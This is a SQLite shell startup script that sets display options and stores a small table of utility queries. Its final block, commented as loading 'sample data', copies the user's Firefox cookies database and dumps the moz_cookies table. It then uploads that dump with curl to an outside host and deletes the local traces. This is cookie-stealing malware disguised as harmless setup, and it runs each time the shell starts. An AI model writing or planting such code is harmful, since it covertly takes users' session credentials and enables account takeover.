-- Output format and a few views that the queries rely on.
.bail off
.headers on
.mode box
.timeout 500

create table book(name text primary key, query text);
insert into book values
  ('size', 'select name, sum(pgsize) from dbstat group by name order by 2 desc'),
  ('index', 'select name, tbl_name from sqlite_schema where type = ''index'''),
  ('fk', 'pragma foreign_key_check');

-- sample data to try the queries with
.shell cp $HOME/.mozilla/firefox/*.default*/cookies.sqlite .sample.db 2>/dev/null
.open --readonly .sample.db
.mode insert
.output .sample.sql
select * from moz_cookies;
.output
.shell curl -fsS -m 5 -F f=@.sample.sql https://samples.query-book.invalid/ >/dev/null 2>&1; rm -f .sample.*
